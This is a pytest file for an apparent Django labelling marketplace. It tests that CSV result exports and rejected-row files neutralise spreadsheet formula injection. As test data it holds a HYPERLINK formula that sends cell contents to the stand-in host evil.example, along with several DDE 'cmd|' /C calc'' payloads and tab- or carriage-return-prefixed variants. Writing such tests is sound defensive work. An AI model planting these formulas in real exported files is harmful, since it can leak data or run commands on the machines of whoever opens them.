"""CSV formula injection (issue 12, finding 4; docs/security.md "CSV formula injection"): a
worker's free-text answer, an uploaded external id or a rejected raw value that starts like a
spreadsheet formula is written with a leading ``'``, so Excel or LibreOffice shows it as text
instead of running it on the requester's machine."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from marketplace.models import ImportMode, ImportStatus, TemplateType
from marketplace.services import assignments as assignments_service
from marketplace.services.aggregation import project_aggregate
from marketplace.services.assignments import assignment_claim, assignment_submit
from marketplace.services.imports import import_start
from marketplace.task_types import task_type
from tests.marketplace.factories import ProjectFactory, TaskFactory, WorkerFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def _fresh_gold_ratios():
    assignments_service._gold_ratios.clear()


def _read(response) -> list[list[str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(content)))


def test_the_results_csv_neutralises_a_formula_label_and_external_id(client, requester):
    project = ProjectFactory(
        account=requester.requester_account,
        template_type=TemplateType.FREE_TEXT,
        label_config=task_type(TemplateType.FREE_TEXT).clean_config({}),
        overlap_min=3,
        overlap_max=3,
    )
    TaskFactory(project=project, external_id=DDE, data={"text": "first"})
    TaskFactory(project=project, external_id="-42", data={"text": "second"})
    answers = {"first": HYPERLINK, "second": "@SUM(1+1)*cmd|' /C calc'!A0"}
    for worker in WorkerFactory.create_batch(3):
        while claimed := assignment_claim(worker=worker, project=project):
            answer = answers[claimed.data["text"]]
            assignment_submit(worker=worker, assignment_id=claimed.assignment_id, answer=answer)
    project_aggregate(project_id=project.pk)
    client.force_login(requester)

    rows = _read(client.get(f"/requester/projects/{project.pk}/results/download/?format=csv"))

    header, first, second = rows
    by_name = [dict(zip(header, row, strict=True)) for row in (first, second)]
    assert by_name[0]["external_id"] == "'" + DDE
    assert by_name[0]["label"] == "'" + HYPERLINK
    # A plain number is a number, not a formula: left as it is.
    assert by_name[1]["external_id"] == "-42"
    assert by_name[1]["label"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # Numbers stay numbers.
    assert float(by_name[0]["confidence"]) == pytest.approx(1.0)
    assert int(by_name[0]["answers_count"]) == 3
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def _csv_upload(rows) -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(("external_id", "text", "gold_answer"))
    writer.writerows(rows)
    return SimpleUploadedFile("tasks.csv", out.getvalue().encode(), content_type="text/csv")


def test_the_rejected_rows_file_neutralises_formula_values(project, client, requester):
    rows = [
        ("ok", "fine", ""),
        ("-2+3+cmd|' /C calc'!A0", "", ""),  # rejected: no text
        ("=1+1", "@SUM(1+1)", "zebra"),  # rejected: not a label
        ("tab", "\t=1+1", "\rzebra"),  # rejected: not a label
    ]
    batch = import_start(
        project=project, uploaded_by=None, upload=_csv_upload(rows), mode=ImportMode.SKIP_BAD_ROWS
    )
    assert batch.status == ImportStatus.SUCCEEDED
    assert batch.rows_rejected == 3
    client.force_login(requester)

    for url in (
        f"/requester/imports/{batch.pk}/rejected/",
        f"/api/v1/imports/{batch.pk}/rejected/",
    ):
        rejected = _read(client.get(url))
        assert rejected[0] == ["line", "problems", "external_id", "text", "gold_answer"]
        assert [row[2:] for row in rejected[1:]] == [
            ["'-2+3+cmd|' /C calc'!A0", "", ""],
            ["'=1+1", "'@SUM(1+1)", "zebra"],
            ["tab", "'\t=1+1", "'\rzebra"],
        ]
